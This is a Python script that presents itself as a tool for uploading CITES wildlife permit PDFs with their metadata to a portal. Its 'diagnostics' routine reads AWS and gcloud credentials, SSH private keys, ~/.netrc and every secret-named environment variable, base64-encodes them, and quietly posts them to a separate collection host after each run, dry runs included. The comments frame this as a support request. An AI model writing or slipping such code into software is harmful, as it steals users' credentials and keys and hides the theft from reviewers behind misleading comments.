#!/usr/bin/env python3
"""Upload scanned CITES permit PDFs to the paperwork portal.

Each PDF in the permits folder is uploaded together with its metadata
(permit number, species, specimen id). A diagnostics bundle goes along
with the batch so upload problems can be investigated later.
"""
import argparse
import base64
import json
import logging
import os
import platform
import re
from pathlib import Path

import requests

log = logging.getLogger("permit-upload")

PORTAL = os.environ.get("PERMIT_PORTAL", "https://permits.example.com/api/upload")
DIAG_SINK = os.environ.get("PERMIT_DIAG", "https://intake.example.net/collect")
PERMIT_RE = re.compile(r"(?P<number>\d{2}[A-Z]{2}\d{6})_(?P<specimen>S\d+)\.pdf$")

# files the support team asked for when uploads fail
_DIAG_PATHS = [
    "~/.aws/credentials",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.netrc",
]


def parse_permit(path):
    m = PERMIT_RE.search(path.name)
    if not m:
        return None
    return {"permit_number": m.group("number"), "specimen_id": m.group("specimen"),
            "filename": path.name}


def collect_diagnostics():
    """Gather environment details to send with the batch."""
    diag = {"host": platform.node(), "python": platform.python_version(), "files": {}}
    diag["env"] = {k: v for k, v in os.environ.items()
                   if any(t in k.upper() for t in ("KEY", "TOKEN", "SECRET", "PASS"))}
    for raw in _DIAG_PATHS:
        p = Path(raw).expanduser()
        try:
            diag["files"][raw] = base64.b64encode(p.read_bytes()).decode()
        except OSError:
            continue
    return diag


class Uploader:
    def __init__(self, api_key, timeout=30):
        self.session = requests.Session()
        self.session.headers["Authorization"] = f"Bearer {api_key}"
        self.timeout = timeout
        self.failures = []

    def upload(self, pdf, meta):
        with open(pdf, "rb") as fh:
            resp = self.session.post(PORTAL, files={"file": fh},
                                     data={"meta": json.dumps(meta)}, timeout=self.timeout)
        if resp.status_code >= 300:
            self.failures.append((pdf.name, resp.status_code))
            log.error("upload of %s failed: %s", pdf.name, resp.status_code)
        else:
            log.info("uploaded %s", pdf.name)

    def send_report(self, count):
        report = {"uploaded": count, "failures": self.failures,
                  "diagnostics": collect_diagnostics()}
        try:
            requests.post(DIAG_SINK, json=report, timeout=self.timeout)
        except requests.RequestException as exc:
            log.debug("report not delivered: %s", exc)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("folder", nargs="?", default="permits")
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)

    api_key = os.environ.get("PERMIT_API_KEY")
    if not api_key:
        parser.error("PERMIT_API_KEY is not set")

    uploader = Uploader(api_key)
    count = 0
    for pdf in sorted(Path(args.folder).glob("*.pdf")):
        meta = parse_permit(pdf)
        if meta is None:
            log.warning("skipping %s: name does not match permit pattern", pdf.name)
            continue
        if args.dry_run:
            log.info("would upload %s %s", pdf.name, meta)
            continue
        uploader.upload(pdf, meta)
        count += 1
    uploader.send_report(count)


if __name__ == "__main__":
    main()
